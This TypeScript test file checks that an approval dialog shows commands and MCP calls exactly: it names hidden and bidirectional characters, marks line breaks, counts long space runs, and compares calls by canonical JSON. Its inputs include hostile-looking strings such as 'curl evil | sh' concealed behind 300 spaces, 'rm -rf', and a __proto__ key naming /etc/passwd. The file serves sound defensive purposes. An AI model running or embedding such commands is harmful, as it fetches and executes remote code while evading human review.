/**
 * What an approval dialog shows: the command or call exactly, with nothing that draws nothing or reorders the text
 * left as it is, long lines wrapped, a long text cut only with a statement of how much, and MCP calls compared by
 * their canonical form.
 */
import { strict as assert } from "node:assert";
import {
  canonicalJson,
  marksLegend,
  mcpCallKey,
  NEWLINE_MARK,
  showExactly,
  visibleInline,
} from "../../server/src/shared/approvalText";

/** Undoes the wrapping: a display line ending in ↵ ended a source line; any other break was a wrap. */
function unwrap(shown: string): string {
  return shown
    .split("\n")
    .map((line) => (line.endsWith(NEWLINE_MARK) ? `${line.slice(0, -1)}\n` : line))
    .join("");
}

const hex = (code: number) => `⟨U+${code.toString(16).toUpperCase().padStart(4, "0")}⟩`;

describe("approval dialogs' text", () => {
  it("names every control, bidirectional, invisible and non-ASCII space character", () => {
    const codes = [
      ...Array.from({ length: 0x20 }, (_, i) => i).filter((code) => code !== 0x0a),
      0x7f,
      ...Array.from({ length: 0x20 }, (_, i) => 0x80 + i),
      ...[0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069],
      ...[0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x2028, 0x2029, 0xfeff, 0x061c, 0x2060, 0x2061, 0x2062, 0x2063, 0x2064],
      ...[0x00a0, 0x1680, 0x2000, 0x2007, 0x200a, 0x202f, 0x205f, 0x3000, 0x00ad, 0x180e, 0x034f, 0x3164, 0x115f, 0xffa0],
      ...[0x2800, 0xfe0f, 0xe0041, 0xe0100, 0xfff9],
    ];
    for (const code of codes) {
      const char = String.fromCodePoint(code);
      assert.equal(showExactly(`npm${char}test`).text, `npm${hex(code)}test`, hex(code));
      assert.equal(visibleInline(`npm${char}test`), `npm${hex(code)}test`, hex(code));
    }
    assert.equal(showExactly("a\ud800b").text, "a⟨U+D800⟩b", "a lone surrogate");
    assert.equal(showExactly("\u001b[2K\rnpm test").text, "⟨U+001B⟩[2K⟨U+000D⟩npm test");
    assert.equal(showExactly("rm -rf /tmp/x\t#").text, "rm -rf /tmp/x⟨U+0009⟩#");
  });

  it("leaves ordinary text, accents and other scripts as they are", () => {
    for (const text of ["npm test -- --grep 'café'", "echo 日本語 ελληνικά עברית", 'git commit -m "fix: a → b"', ""])
      assert.equal(showExactly(text).text, text);
  });

  it("marks real line breaks, so a wrapped line never looks like a second command", () => {
    assert.equal(showExactly("npm test\ncurl x | sh").text, `npm test${NEWLINE_MARK}\ncurl x | sh`);
    assert.equal(showExactly("a\n\nb\n").text, `a${NEWLINE_MARK}\n${NEWLINE_MARK}\nb${NEWLINE_MARK}\n`);
    assert.equal(visibleInline("a\nb"), `a${NEWLINE_MARK}b`);
  });

  it("counts long runs of spaces that would push the rest out of sight", () => {
    const shown = showExactly(`npm test${" ".repeat(300)}; curl evil | sh`).text;
    assert.ok(shown.includes("npm test⟨300 spaces⟩; curl evil | sh"), shown);
    assert.ok(shown.includes("; curl evil | sh"), shown);
    assert.equal(showExactly("a   b").text, "a   b", "short runs stay");
  });

  it("wraps long lines, at a space where one is near, and keeps every character", () => {
    const unbroken = "x".repeat(300);
    const shown = showExactly(unbroken).text;
    assert.ok(
      shown.split("\n").every((line) => line.length <= 80),
      shown,
    );
    assert.equal(shown.split("\n").length, 4);
    assert.equal(unwrap(shown), unbroken);

    const words = Array.from({ length: 60 }, (_, i) => `word${i}`).join(" ");
    const wrapped = showExactly(words).text.split("\n");
    assert.ok(wrapped.length > 1);
    assert.ok(
      wrapped.slice(0, -1).every((line) => line.endsWith(" ") && line.length <= 80),
      wrapped.join("|"),
    );
    assert.equal(unwrap(wrapped.join("\n")), words);

    // A name never breaks inside.
    const names = showExactly(`${"a".repeat(78)}\u202e\u202e`).text;
    assert.ok(names.includes("⟨U+202E⟩"), names);
  });

  it("shows a long text in full or says exactly how much of it is not shown", () => {
    const lines = Array.from({ length: 100 }, (_, i) => `line ${String(i).padStart(3, "0")}`);
    const shown = showExactly(lines.join("\n"));
    const display = shown.text.split("\n");
    assert.equal(display.length, 40);
    assert.equal(display[0], `line 000${NEWLINE_MARK}`);
    assert.equal(display[30], "⟨… 549 characters (61 lines) not shown here …⟩");
    assert.equal(display[39], "line 099");
    assert.equal(shown.hiddenChars, 549);
    assert.equal(display[29], `line 029${NEWLINE_MARK}`);
    assert.equal(display[31], `line 091${NEWLINE_MARK}`);

    // Random texts: either all of it comes back from what is shown, or the gap says how much is missing.
    let seed = 7;
    const random = () => {
      seed = (seed * 1103515245 + 12345) % 2 ** 31;
      return seed / 2 ** 31;
    };
    for (let round = 0; round < 200; round++) {
      const length = Math.floor(random() * 6000);
      const text = Array.from({ length }, () => "ab cd\nef-/ "[Math.floor(random() * 12)] ?? "z")
        .join("")
        .replace(/ {4,}/g, "  "); // counted runs are checked above
      const result = showExactly(text, { maxLines: 30 });
      if (result.hiddenChars === 0) assert.equal(unwrap(result.text), text);
      else {
        const gap = /⟨… ([\d,]+) characters \((\d+) lines\) not shown here …⟩/.exec(result.text);
        assert.ok(gap, result.text);
        assert.equal(Number(gap[1].replace(/,/g, "")), result.hiddenChars);
        const [head, tail] = result.text.split(gap[0]);
        assert.equal(unwrap(head).length + result.hiddenChars + unwrap(tail.slice(1)).length, text.length);
        assert.ok(text.startsWith(unwrap(head)) && text.endsWith(unwrap(tail.slice(1))));
      }
    }
  });

  it("explains its marks only when the text has some", () => {
    assert.equal(marksLegend(showExactly("npm test").text), "");
    for (const text of ["npm\u202etest", "a\nb", `a${" ".repeat(9)}b`])
      assert.match(marksLegend(showExactly(text).text), /⟨U\+…⟩ names/);
  });

  it("cuts a short name with a mark, never silently", () => {
    assert.equal(visibleInline("npm run build-everything", 7), "npm run⟨…⟩");
    assert.equal(visibleInline("npm", 7), "npm");
  });
});

describe("MCP calls compared for 'allow this exact call'", () => {
  it("is the same call whatever the order of keys, at every depth", () => {
    assert.equal(
      mcpCallKey("files", "write", { path: "a", options: { mode: 1, flags: [{ x: 1, y: 2 }] } }),
      mcpCallKey("files", "write", { options: { flags: [{ y: 2, x: 1 }], mode: 1 }, path: "a" }),
    );
    assert.equal(canonicalJson({ b: 1, a: [3, { d: 1, c: 2 }] }), '{"a":[3,{"c":2,"d":1}],"b":1}');
  });

  it("is another call when anything else differs", () => {
    const base = mcpCallKey("files", "write", { path: "a", text: "x" });
    for (const other of [
      mcpCallKey("files", "write", { path: "a", text: "y" }),
      mcpCallKey("files", "write", { path: "a", text: "x", extra: true }),
      mcpCallKey("files", "write", { path: "a" }),
      mcpCallKey("files", "writes", { path: "a", text: "x" }),
      mcpCallKey("other", "write", { path: "a", text: "x" }),
      mcpCallKey("files", "write", { path: "a", text: ["x"] }),
      mcpCallKey("files", "write", { path: "a", text: "x\u202e" }),
    ])
      assert.notEqual(other, base);
    assert.notEqual(mcpCallKey("a", "b/c", {}), mcpCallKey("a/b", "c", {}));
    assert.notEqual(mcpCallKey("a", "b", [1, 2]), mcpCallKey("a", "b", [2, 1]), "array order matters");
  });

  it("keeps a __proto__ key as a key", () => {
    const one = JSON.parse('{"__proto__": {"path": "/etc/passwd"}}') as Record<string, unknown>;
    const two = JSON.parse('{"__proto__": {"path": "/home/me/notes"}}') as Record<string, unknown>;
    assert.notEqual(mcpCallKey("files", "read", one), mcpCallKey("files", "read", two));
    assert.notEqual(mcpCallKey("files", "read", one), mcpCallKey("files", "read", {}));
    assert.equal(canonicalJson(one), '{"__proto__":{"path":"/etc/passwd"}}');
  });
});
